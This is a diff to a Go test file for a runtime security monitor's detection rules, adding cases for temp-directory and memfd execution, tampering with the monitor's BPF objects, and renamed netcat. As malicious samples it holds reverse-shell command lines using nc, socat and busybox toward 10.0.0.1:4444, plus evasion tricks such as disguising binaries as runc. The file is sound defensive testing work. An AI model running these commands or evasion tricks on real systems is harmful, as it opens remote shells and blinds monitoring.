@@ -40,7 +40,7 @@ func TestDefaultRulesLoad(t *testing.T) {
 			t.Errorf("rule %q: desc, output or enabled missing", r.Name)
 		}
 	}
-	if got := kindNames(rs.Kinds()); got != "exec,open,connect,iouring" {
+	if got := kindNames(rs.Kinds()); got != "exec,open,connect,priv,iouring" {
 		t.Errorf("kinds %s", got)
 	}
 }
@@ -91,6 +91,29 @@ func TestDefaultRules(t *testing.T) {
 		return e
 	}
 	uringSetup := &event.Event{Type: event.TypeIOUringSetup, Num: 6, Proc: bash, Res: 3}
+	// target gives p the file its interpreter or loader runs (proc.target).
+	target := func(p *event.Process, file string) *event.Process { p.Target = file; return p }
+	truncatedExe := proc("x", "/a/a/a/a/x", "", bash)
+	truncatedExe.ExeTruncated = true
+	// runc as containerd runs it: `runc create` re-executes itself from a
+	// memfd, and so does the `runc init` it starts.
+	runcCreate := proc("runc", "memfd:runc_cloned:/proc/self/exe", "create", shim)
+	runcCreate.ExeFromMemfd = true
+	runcInit := proc("runc:[2:INIT]", "memfd:runc_cloned:/proc/self/exe", "init", runcCreate)
+	runcInit.ExeFromMemfd = true
+	// The same names chosen by a user's program: comm runc, the memfd
+	// named as runc names its own, started by a shell.
+	fakeRunc := proc("runc", "memfd:runc_cloned:/proc/self/exe", "init", bash)
+	fakeRunc.ExeFromMemfd = true
+	fakeRuncChild := proc("runc:[2:INIT]", "memfd:runc_cloned:/proc/self/exe", "init", fakeRunc)
+	fakeRuncChild.ExeFromMemfd = true
+	bpfEvent := func(p *event.Process, cmd, typ, id int64, vigil bool) *event.Event {
+		e := &event.Event{Type: event.TypeBpf, Num: 4, Time: 1_700_000_000_123_456_789, PID: p.PID, TID: p.PID, Proc: p}
+		e.Priv.Args = [3]int64{cmd, typ, id}
+		e.Priv.TargetVigil = vigil
+		return e
+	}
+	bpftool := proc("bpftool", "/usr/sbin/bpftool", "map update id 12 key 4 0 0 0 value 0 0 0 0", bash)
 
 	tests := []struct {
 		rule    string
@@ -98,22 +121,48 @@ func TestDefaultRules(t *testing.T) {
 		benign  []*event.Event
 	}{
 		{"Shell Spawned in Container",
-			[]*event.Event{exec(proc("bash", "/bin/bash", "", runc), c), exec(proc("sh", "/bin/sh", "-c id", shim), c)},
+			[]*event.Event{exec(proc("bash", "/bin/bash", "", runc), c), exec(proc("sh", "/bin/sh", "-c id", shim), c),
+				exec(proc("nginx", "/usr/bin/bash", "", runc), c)},
 			[]*event.Event{exec(sh("-c id"), nil), exec(proc("nginx", "/usr/sbin/nginx", "", runc), c)}},
 		{"Execution from Temporary Directory",
-			[]*event.Event{exec(proc("x", "/tmp/x", "", bash), nil), exec(proc("kinsing", "/var/tmp/.k/kinsing", "", sh("")), c)},
+			[]*event.Event{exec(proc("x", "/tmp/x", "", bash), nil), exec(proc("kinsing", "/var/tmp/.k/kinsing", "", sh("")), c),
+				exec(target(proc("s.sh", "/usr/bin/dash", "/tmp/s.sh", bash), "/tmp/s.sh"), nil),
+				exec(target(proc("bash", "/usr/bin/bash", "/tmp/s.sh", bash), "/tmp/s.sh"), nil),
+				exec(target(proc("ld-linux-x86-64", "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "/tmp/x", bash), "/tmp/x"), nil),
+				exec(target(proc("bash", "/tmp/go-build1/bash", "/tmp/s.sh", gotest), "/tmp/s.sh"), nil),
+				// A directory named like the Go toolchain's, without it.
+				exec(proc("x", "/tmp/go-build1/x", "", bash), nil),
+				func() *event.Event {
+					p := proc("x", "/mnt/b/x", "", bash)
+					p.ExeRootPath = "/tmp/b/x"
+					return exec(p, nil)
+				}()},
 			[]*event.Event{
 				exec(proc("rules.test", "/tmp/go-build123/b001/rules.test", "-test.v", gotest), nil),
 				exec(proc("main", "/tmp/go-build42/b001/exe/main", "", gotest), nil),
+				// A test binary re-executing itself as a helper.
+				exec(proc("rules.test", "/tmp/go-build123/b001/rules.test", "helper",
+					proc("rules.test", "/tmp/go-build123/b001/rules.test", "-test.v", gotest)), nil),
 				exec(proc("tmpfoo", "/usr/bin/tmpfoo", "", bash), nil),
 				exec(proc("postinst", "/tmp/postinst", "configure", dpkg), nil),
+				exec(target(proc("bash", "/usr/bin/bash", "/srv/app/run.sh", bash), "/srv/app/run.sh"), nil),
+				exec(sh("-c /tmp/x"), nil),
 			}},
+		{"Execution from Unresolvable Path",
+			[]*event.Event{exec(truncatedExe, nil)},
+			[]*event.Event{exec(proc("x", "/a/a/a/a/x", "", bash), nil), exec(proc("ls", "/usr/bin/ls", "", bash), nil)}},
+		{"Tampering with vigil's BPF Objects",
+			[]*event.Event{bpfEvent(bpftool, 2, event.BPFObjMap, 12, true), bpfEvent(bpftool, 34, event.BPFObjLink, 3, true),
+				bpfEvent(proc("x", "/tmp/x", "", bash), 6, event.BPFObjProg, 40, true)},
+			[]*event.Event{bpfEvent(bpftool, 2, event.BPFObjMap, 13, false), bpfEvent(bpftool, 1, event.BPFObjMap, 12, true),
+				bpfEvent(bpftool, 14, event.BPFObjMap, 12, true)}},
 		{"Execution from Shared Memory",
-			[]*event.Event{exec(proc("x", "/dev/shm/x", "", bash), nil)},
+			[]*event.Event{exec(proc("x", "/dev/shm/x", "", bash), nil),
+				exec(target(proc("python3", "/usr/bin/python3.11", "/dev/shm/p.py", bash), "/dev/shm/p.py"), nil)},
 			[]*event.Event{exec(proc("ls", "/usr/bin/ls", "/dev/shm", bash), nil)}},
 		{"Fileless Execution via memfd",
-			[]*event.Event{exec(memfd, nil)},
-			[]*event.Event{exec(runcMemfd, nil), exec(proc("ls", "/usr/bin/ls", "", bash), nil)}},
+			[]*event.Event{exec(memfd, nil), exec(fakeRunc, nil), exec(fakeRuncChild, nil)},
+			[]*event.Event{exec(runcMemfd, nil), exec(runcCreate, nil), exec(runcInit, nil), exec(proc("ls", "/usr/bin/ls", "", bash), nil)}},
 		{"Execution of Deleted Binary",
 			[]*event.Event{exec(deleted, nil), exec(deletedTmp, nil)},
 			[]*event.Event{exec(memfd, nil), exec(proc("ls", "/usr/bin/ls", "", bash), nil)}},
@@ -132,6 +181,20 @@ func TestDefaultRules(t *testing.T) {
 				exec(proc("nc", "/usr/bin/nc", "-ve /bin/sh 10.0.0.1 4444", bash), nil),
 				exec(proc("nc", "/usr/bin/nc", "-lvnpe 4444 /bin/sh", bash), nil),
 				exec(truncatedArgs(proc("nc", "/usr/bin/nc", "-v -v -v", bash)), nil),
+				// Renamed or linked: the resolved executable, or busybox's
+				// applet chosen by argv[0], still says netcat.
+				exec(proc("backup", "/usr/bin/nc.traditional", "-e /bin/sh 10.0.0.1 4444", bash), nil),
+				exec(proc("x", "/usr/bin/socat", "TCP:10.0.0.1:4444 EXEC:/bin/bash", bash), nil),
+				func() *event.Event {
+					p := proc("x", "/usr/bin/busybox", "10.0.0.1 4444 -e /bin/sh", bash)
+					p.Exe = "nc"
+					return exec(p, nil)
+				}(),
+				func() *event.Event {
+					p := proc("busybox", "/usr/bin/busybox", "nc -e /bin/sh 10.0.0.1 4444", bash)
+					p.Exe = "busybox"
+					return exec(p, nil)
+				}(),
 			},
 			[]*event.Event{
 				exec(proc("nc", "/usr/bin/nc", "-zv my-example.com 443", bash), nil),
@@ -208,6 +271,7 @@ func TestDefaultRules(t *testing.T) {
 				write(proc("bash", "/usr/bin/bash", "", sshd), "/var/log/app.log", unix.O_APPEND)}},
 		{"Outbound Connection by Non-Network Program",
 			[]*event.Event{connectEvent(bash, nil, "10.0.0.5:40000", "203.0.113.7:4444", 0),
+				connectEvent(proc("backup", "/usr/bin/bash", "-i", bash), nil, "10.0.0.5:40000", "203.0.113.7:4444", 0),
 				connectEvent(proc("sh", "/bin/sh", "", runc), c, "172.17.0.2:40000", "203.0.113.7:443", -int64(unix.EINPROGRESS))},
 			[]*event.Event{connectEvent(bash, nil, "127.0.0.1:40000", "127.0.0.1:8080", 0),
 				connectEvent(proc("curl", "/usr/bin/curl", "", bash), nil, "10.0.0.5:40000", "203.0.113.7:443", 0),
